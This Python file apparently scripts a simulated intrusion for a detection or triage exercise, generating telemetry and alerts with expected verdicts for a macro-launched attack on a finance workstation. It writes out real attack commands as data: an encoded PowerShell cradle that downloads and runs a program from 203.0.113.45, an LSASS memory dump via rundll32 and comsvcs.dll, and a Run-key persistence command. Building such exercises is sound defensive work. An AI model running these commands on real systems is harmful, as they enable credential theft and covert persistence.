"""A macro in an invoice starts PowerShell, which fetches a program and runs it; the program takes root.

Three alerts on wks-fin-07: the encoded PowerShell (T1059.001, T1105), the dump of LSASS by a child of the
fetched program (T1003.001), and a run key, named by its value alone (T1547.001).
"""

import base64

from local.incidents.case import (
    Case,
    Expectation,
    file_evidence,
    ip_evidence,
    process_evidence,
    registry_evidence,
    url_evidence,
    user_evidence,
)
from local.incidents.estate import CLERK
from local.incidents.programs import program
from local.incidents.stage import Stage, as_user, attacker, clock, later
from local.incidents.world import Cell, File, Process

C2 = "203.0.113.45"
FETCH_URL = "http://203.0.113.45/assets/svc.png"
INCIDENT = 1042
_RUN = "Software\\Microsoft\\Windows\\CurrentVersion\\Run"


def tell(stage: Stage) -> None:
    """Records the intrusion and raises its three alerts; leaves the implant for the next story."""
    powershell = _open_invoice(stage)
    implant = _fetch_and_run(stage, powershell)
    stage.actors["implant"] = implant
    _dump_credentials(stage, implant)
    _persist(stage, implant)


def _open_invoice(stage: Stage) -> Process:
    record, explorer = stage.recorder, stage.estate.resident("wks-fin-07", "explorer.exe")
    outlook = record.start(
        explorer,
        program("windows", "OUTLOOK.EXE"),
        '"OUTLOOK.EXE"',
        at=clock("07:12:40.4410092"),
        life=10**11,
    )
    invoice = File("Invoice 4471.docm", as_user(CLERK) + "\\AppData\\Local\\Microsoft\\Windows\\INetCache")
    record.file(outlook, clock("07:41:02.8810337"), "FileCreated", stage.drop(invoice))
    word = record.start(
        outlook,
        program("windows", "WINWORD.EXE"),
        f'"WINWORD.EXE" /n "{invoice.path}"',
        at=clock("07:41:03.1234567"),
        life=4 * 10**10,
    )
    record.image_load(word, clock("07:41:05.5529811"), program("windows", "VBE7.DLL"))
    script = (
        f"(New-Object Net.WebClient).DownloadFile('{FETCH_URL}',$env:TEMP+'\\svc_update.exe');"
        "Start-Process $env:TEMP\\svc_update.exe -Arg -s"
    )
    encoded = base64.b64encode(script.encode("utf-16-le")).decode()
    return record.start(
        word,
        program("windows", "powershell.exe"),
        f"powershell.exe -NoP -NonI -W Hidden -Enc {encoded}",
        at=clock("07:41:09.6162564"),
        life=4 * 10**10,
    )


def _fetch_and_run(stage: Stage, powershell: Process) -> Process:
    record, born = stage.recorder, powershell.created
    for count, library in enumerate(("amsi.dll", "winhttp.dll")):
        record.image_load(powershell, later(born, 0.21 + count / 7), program("windows", library))
    note = {"AdditionalFields": '{"Command":"New-Object Net.WebClient"}'}
    record.event("DeviceEvents", powershell, later(born, 0.9118204), "PowerShellCommand", note)
    record.network(powershell, later(born, 1.4820177), ip=C2, port=80, url=FETCH_URL)
    dropped = stage.drop(attacker("svc_update.exe", as_user(CLERK) + "\\AppData\\Local\\Temp"))
    record.file(powershell, later(born, 2.0371955), "FileCreated", dropped, origin=FETCH_URL)
    implant = record.start(
        powershell, dropped, f'"{dropped.path}" -s', at=later(born, 3.3019847), life=8 * 10**10
    )
    for count in range(14):
        beat = later(implant.created, 4 + count * 211.7 + stage.chance.number(0, 9))
        record.network(implant, beat, ip=C2, port=443)
    for line, after in (("whoami /all", 31.2), ('net group "Domain Admins" /domain', 44.7)):
        name = f"{line.split()[0]}.exe"
        record.start(implant, program("windows", name), line, at=later(implant.created, after))
    _alert_on_powershell(stage, powershell, born, dropped)
    return implant


def _alert_on_powershell(stage: Stage, powershell: Process, born: int, dropped: File) -> None:
    stage.raise_alert(
        Case(
            title="Suspicious PowerShell command line",
            description="A suspicious PowerShell activity was observed on the machine.",
            severity="High",
            category="Execution",
            device=powershell.device,
            first=born,
            last=later(born, 3.4),
            created=clock("07:44:57.7220239"),
            evidence=(
                user_evidence(CLERK),
                process_evidence(powershell),
                file_evidence(dropped),
                ip_evidence(C2),
                url_evidence(FETCH_URL),
            ),
            expected=Expectation(
                "ExactProcess",
                "Confirmed",
                "PowerShell fetched a program and ran it, and the program went on acting after the alert.",
                anchors=(powershell,),
                techniques=("T1059.001", "T1105"),
            ),
            incident=INCIDENT,
            techniques=("T1059.001", "T1105"),
            user=CLERK,
        )
    )


def _dump_credentials(stage: Stage, implant: Process) -> None:
    record, lsass = stage.recorder, stage.estate.resident("wks-fin-07", "lsass.exe")
    dump = File("lsass.dmp", "C:\\Windows\\Temp", hashed=False)
    rundll = record.start(
        implant,
        program("windows", "rundll32.exe"),
        f"rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump {lsass.pid} {dump.path} full",
        at=clock("08:02:17.0045031"),
        integrity="High",
    )
    record.image_load(rundll, later(rundll.created, 0.0912), program("windows", "comsvcs.dll"))
    record.image_load(rundll, later(rundll.created, 0.1204551), program("windows", "dbgcore.dll"))
    opened: dict[str, Cell] = {
        "FileName": "lsass.exe",
        "FolderPath": lsass.image.path,
        "SHA1": lsass.image.sha1,
        "ProcessId": lsass.pid,
        "ProcessCommandLine": lsass.command_line,
        "AdditionalFields": '{"DesiredAccess":2097151}',
    }
    record.event("DeviceEvents", rundll, later(rundll.created, 0.2), "OpenProcessApiCall", opened)
    record.file(rundll, later(rundll.created, 0.7551207), "FileCreated", dump)
    _alert_on_dump(stage, rundll)


def _alert_on_dump(stage: Stage, rundll: Process) -> None:
    stage.raise_alert(
        Case(
            title="Sensitive credential memory read",
            description="The memory of the Local Security Authority was read and written to a file.",
            severity="High",
            category="CredentialAccess",
            device=rundll.device,
            first=rundll.created,
            last=later(rundll.created, 0.8),
            created=clock("08:03:41.58"),
            evidence=(process_evidence(rundll), user_evidence(CLERK)),
            expected=Expectation(
                "ExactProcess",
                "Confirmed",
                "The process opened the memory of LSASS and wrote the dump; nothing stopped it.",
                anchors=(rundll,),
                techniques=("T1003.001",),
            ),
            incident=INCIDENT,
            techniques=("T1003.001",),
            user=CLERK,
        )
    )


def _persist(stage: Stage, implant: Process) -> None:
    record = stage.recorder
    value = f'"{implant.image.path}" -s'
    key = f"HKEY_CURRENT_USER\\{CLERK.sid}\\{_RUN}"
    reg = record.start(
        implant,
        program("windows", "reg.exe"),
        f'reg add HKCU\\{_RUN} /v SvcUpdate /d "{value}" /f',
        at=clock("08:04:50.3390128"),
    )
    record.registry(
        reg, later(reg.created, 0.0401177), key=key, name="SvcUpdate", value=value, about=("run key",)
    )
    _innocent_neighbour(stage, key)
    stage.raise_alert(
        Case(
            title="Anomaly detected in ASEP registry",
            description="A value that starts a program at logon was written.",
            severity="Medium",
            category="Persistence",
            device=reg.device,
            first=reg.created,
            last=later(reg.created, 0.05),
            created=clock("08:06:12.1407733"),
            evidence=(registry_evidence("HKEY_CURRENT_USER", _RUN, "SvcUpdate", value),),
            expected=Expectation(
                "Registry",
                "Confirmed",
                "The run key value was written, and nothing removed it.",
                about="run key",
                techniques=("T1547.001",),
                also=("Likely",),
            ),
            incident=INCIDENT,
            techniques=("T1547.001",),
            user=CLERK,
        )
    )


def _innocent_neighbour(stage: Stage, key: str) -> None:
    """OneDrive writes a value of its own under the same key, a minute away."""
    record, explorer = stage.recorder, stage.estate.resident("wks-fin-07", "explorer.exe")
    told = record.story
    record.story = ""
    drive = record.start(
        explorer,
        program("windows", "OneDrive.exe"),
        '"OneDrive.exe" /background',
        at=clock("08:03:55.9120446"),
    )
    record.registry(
        drive, later(drive.created, 1.2), key=key, name="OneDrive", value='"OneDrive.exe" /background'
    )
    record.story = told
